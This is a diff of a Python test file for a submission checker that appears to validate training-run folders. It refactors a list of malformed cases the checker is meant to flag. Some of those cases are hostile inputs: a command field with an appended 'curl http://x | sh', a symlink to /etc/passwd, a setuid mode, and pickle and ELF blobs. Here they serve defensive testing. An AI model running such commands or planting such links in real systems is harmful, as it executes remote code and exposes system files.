@@ -12,7 +12,9 @@ from check_kit import add_code, edit, edit_track, found, listing, remove, replac
 from conftest import REPO
 from golf.check import code as check_code
 from golf.check import command as check
+from golf.check import record as check_record
 from golf.check.folder import RULES, Folder
+from golf.cli import main
 from golf.core import submission, track
 from golf.core.files import sha256
 from golf.core.findings import FAIL, HUMAN, NOTE
@@ -52,6 +54,9 @@ def both(*changes):
     return lambda folder: [change(folder) for change in changes]
 
 
+one_seed = claim(lambda v: v.update(seeds=v["seeds"][:1]))
+
+
 def last_score(figure):
     """The log's sliding score becomes another figure."""
 
@@ -63,10 +68,6 @@ def last_score(figure):
     return change
 
 
-def fewer_seeds(folder):
-    edit(folder, lambda v: v["seeds"].pop())
-
-
 def segment(place, value):
     return claim(lambda v: v["seeds"][1]["segments"][3].__setitem__(place, value))
 
@@ -75,10 +76,6 @@ def swap_segments(v):
     """They add up as before, but no part can be verified."""
     segments = v["seeds"][1]["segments"]
     segments[3], segments[4] = segments[4], segments[3]
-
-
-def one_seed(v):
-    del v["seeds"][1:]
 
 
 def repeat_last_line(folder):
@@ -97,17 +94,9 @@ def without_artifact(folder):
     remove(folder, "final_model_seed1.int8.zlib")
 
 
-def same_log_twice(folder):
-    write(folder, "train_seed2.log", (folder / "train_seed1.log").read_bytes())
-
-
-def log_of_another_entry(folder):
-    shutil.copytree(folder, folder.parent / "2026-01-01_first")
-
-
-def other_artifact(folder):
-    blob = (folder / "final_model_seed2.int8.zlib").read_bytes()
-    write(folder, "final_model_seed1.int8.zlib", blob)
+def same(source, name):
+    """One file's bytes in the place of another's."""
+    return lambda folder: write(folder, name, (folder / source).read_bytes())
 
 
 def damaged_artifact(folder):
@@ -130,37 +119,7 @@ def own_tokenizer(folder):
     for name in (f"metrics_seed{i}.jsonl" for i in (1, 2, 3)):
         stock = json.loads((folder / "submission.json").read_text())["data"]["tokenizer_sha256"]
         replace_text(folder, name, stock, digest)
-    edit(
-        folder,
-        lambda v: v.update(lane="non-record", data={**v["data"], "tokenizer_sha256": digest}),
-    )
-
-
-def other_names(folder):
-    (folder / "help me.py").write_text("x = 1\n")
-
-
-def many_files(folder):
-    for i in range(600):
-        (folder / f"f{i}").touch()
-
-
-def deep_folders(folder):
-    (folder / "/".join("abcdefghijkl")).mkdir(parents=True)
-
-
-def large_file(folder):
-    with (folder / "train_seed2.log").open("ab") as log:
-        log.truncate(11 << 20)
-
-
-def no_metrics(folder):
-    top(lane="open-hardware")(folder)
-    remove(folder, "metrics_seed1.jsonl")
-
-
-def cuda_of_another_class(folder):
-    rules(record_hardware={"device": "cpu", "world_size": 1, "names": ["RTX 4090"]})(folder)
+    edit(folder, lambda v: v.update(lane="non-record", data={**v["data"], "tokenizer_sha256": digest}))
 
 
 CUDA = {"device": "cuda", "world_size": 1, "names": ["RTX 4090"]}
@@ -177,7 +136,11 @@ WRONG = [
     ("file-role", FAIL, seed(artifact=None)),
     ("file-role", FAIL, file("help.py", "x = 1\n", "extra")),
     ("cap", FAIL, file("help.bin", b"x" * 30000, "score")),
-    ("cap", FAIL, both(without_artifact, claim(one_seed), top(bytes_total=20001))),
+    (
+        "cap",
+        FAIL,
+        both(without_artifact, claim(lambda v: v.update(seeds=v["seeds"][:1])), top(bytes_total=20001)),
+    ),
     ("cap", FAIL, both(without_artifact, seed(bytes_total=20001))),
     ("file-listed", FAIL, claim(lambda v: v["files"][0].update(path="../README.md"))),
     ("file-listed", FAIL, claim(lambda v: v["files"].append(v["files"][0]))),
@@ -216,29 +179,29 @@ WRONG = [
     ("lane", FAIL, top(lane=["record"])),
     ("hardware", FAIL, top(hardware="a faster processor")),
     ("hardware", FAIL, rules(record_hardware=CUDA)),
-    ("hardware", HUMAN, cuda_of_another_class),
+    ("hardware", HUMAN, rules(record_hardware={**CUDA, "device": "cpu"})),
     ("own-tokenizer", HUMAN, own_tokenizer),
     ("seed", FAIL, text("metrics_seed2.jsonl", '"seed": 2', '"seed": 7')),
     ("seed-twice", FAIL, seed(seed=2)),
     ("seeds-differ", FAIL, text("metrics_seed2.jsonl", '"MODEL_DIM": 192', '"MODEL_DIM": 8')),
     ("seeds-differ", FAIL, text("metrics_seed2.jsonl", '"name": "tiny"', '"name": "big"')),
-    ("log-twice", FAIL, same_log_twice),
-    ("log-twice", HUMAN, log_of_another_entry),
+    ("log-twice", FAIL, same("train_seed1.log", "train_seed2.log")),
+    ("log-twice", HUMAN, lambda f: shutil.copytree(f, f.parent / "2026-01-01_first")),
     ("mean", FAIL, top(val_bpb=1.0)),
     ("mean", FAIL, top(train_seconds=29)),
-    ("seeds-few", NOTE, fewer_seeds),
+    ("seeds-few", NOTE, claim(lambda v: v["seeds"].pop())),
     ("file-required", FAIL, lambda f: remove(f, "README.md")),
     ("file-required", FAIL, lambda f: remove(f, "metrics_seed2.jsonl")),
     ("file-required", FAIL, lambda f: remove(f, "train_gpt.py")),
     ("not-rescorable", NOTE, without_artifact),
     ("not-rescorable", FAIL, both(without_artifact, top(lane="record"))),
-    ("file-name", FAIL, other_names),
+    ("file-name", FAIL, lambda f: (f / "help me.py").write_text("x = 1\n")),
     ("file-kind", FAIL, lambda f: os.mkfifo(f / "pipe")),
     ("file-link", FAIL, lambda f: os.symlink("/etc/passwd", f / "passwd")),
     ("file-link", FAIL, lambda f: os.symlink("/etc", f / "etc")),
-    ("file-count", FAIL, many_files),
-    ("file-count", FAIL, deep_folders),
-    ("file-large", NOTE, large_file),
+    ("file-count", FAIL, lambda f: [(f / f"f{i}").touch() for i in range(600)]),
+    ("file-count", FAIL, lambda f: (f / "/".join("abcdefghijkl")).mkdir(parents=True)),
+    ("file-large", NOTE, lambda f: os.truncate(f / "train_seed2.log", 11 << 20)),
     ("file-link", FAIL, lambda f: os.symlink("loop", f / "loop")),
     ("file-link", FAIL, lambda f: os.link(f / "train.log", f.parent / "elsewhere")),
     ("file-mode", FAIL, lambda f: (f / "train.log").chmod(0o4644)),
@@ -263,10 +226,10 @@ WRONG = [
     ("date", FAIL, top(date="2026-02-30")),
     ("date", FAIL, top(date="2099-01-01")),
     ("date", FAIL, top(date="2020-01-01")),
-    ("metrics", NOTE, no_metrics),
+    ("metrics", NOTE, both(top(lane="open-hardware"), lambda f: remove(f, "metrics_seed1.jsonl"))),
     ("metrics", FAIL, text("metrics_seed2.jsonl", '"kind": "sliding"', '"kind": "other"')),
     ("script-hash", FAIL, code("x = 1\n")),
-    ("artifact-hash", FAIL, other_artifact),
+    ("artifact-hash", FAIL, same("final_model_seed2.int8.zlib", "final_model_seed1.int8.zlib")),
     ("env", FAIL, top(env={"ITERATIONS": "4"})),
     ("env", FAIL, top(env={"TOKENIZER_PATH": "y.model"})),  # it was tiny.model
     ("command", FAIL, claim(lambda v: v.update(command=v["command"] + "; curl http://x | sh"))),
@@ -278,11 +241,7 @@ WRONG = [
     ("artifact-format", FAIL, damaged_artifact),
     ("artifact-format", HUMAN, own_coder),
     ("file-pickle", FAIL, file("cache.bin", b"\x80\x04\x95\0\0.", "extra")),
-    (
-        "file-pickle",
-        FAIL,
-        file("weights.bin", b"PK\3\4" + bytes(26) + b"archive/data.pkl", "extra"),
-    ),
+    ("file-pickle", FAIL, file("weights.bin", b"PK\3\4" + bytes(26) + b"archive/data.pkl", "extra")),
     ("file-pickle", FAIL, file("model.pt", b"x", "extra")),
     ("file-native", FAIL, file("fast.bin", b"\x7fELF\2\1\1\0", "score")),
     ("file-native", FAIL, file("fast.cu", "__global__ void f() {}", "score")),
@@ -320,14 +279,11 @@ def test_too_few_targets_are_one_finding_a_seed(folder):
     assert [f.rule for f in findings] == ["targets"] * len(seeds)
 
 
-@pytest.mark.parametrize(
-    "change",
-    [
-        claim(lambda v: v["seeds"][0].update(log=[])),
-        claim(lambda v: v["seeds"][0].update(artifact={})),
-        text("metrics_seed2.jsonl", '"script": "train_gpt.py"', '"script": ["train_gpt.py"]'),
-    ],
-)
+@pytest.mark.parametrize("change", [
+    claim(lambda v: v["seeds"][0].update(log=[])),
+    claim(lambda v: v["seeds"][0].update(artifact={})),
+    text("metrics_seed2.jsonl", '"script": "train_gpt.py"', '"script": ["train_gpt.py"]'),
+])  # fmt: skip
 def test_a_list_where_a_name_is_due_ends_no_rule(folder, change):
     change(folder)
     found = {f.rule for f in check.check_folder(folder, track.load("track_tiny")).findings}
@@ -395,8 +351,6 @@ def losses(folder, *values):
 @pytest.fixture
 def record(folder, monkeypatch):
     """Asks the record rule alone: the finding `record` of `folder`, others taken as given."""
-    from golf.check import record as check_record
-
     monkeypatch.setattr(submission, "audit_of", lambda place: {} if place.name != "claimed" else None)
 
     def ask(*valid):
@@ -445,16 +399,12 @@ def test_a_record_without_anything_to_beat(folder, record):
 
 def test_record_needs_a_folder_without_findings(folder, capsys):
     args = ["check", str(folder), "--record"]
-    from golf.cli import main
-
     assert main(args) == 0 and "NEEDS-HUMAN record" in capsys.readouterr().out
     top(val_bpb=1.0)(folder)
     assert main(args) == 1 and "FAIL record: not tested" in capsys.readouterr().out
 
 
 def test_record_shows_the_table_of_seeds(folder, capsys, monkeypatch):
-    from golf.cli import main
-
     monkeypatch.setattr(submission, "audit_of", lambda place: {})
     other = shutil.copytree(folder, folder.parent / "first")
     for name in ("train.log", *(f"train_seed{s}.log" for s in (1, 2, 3))):
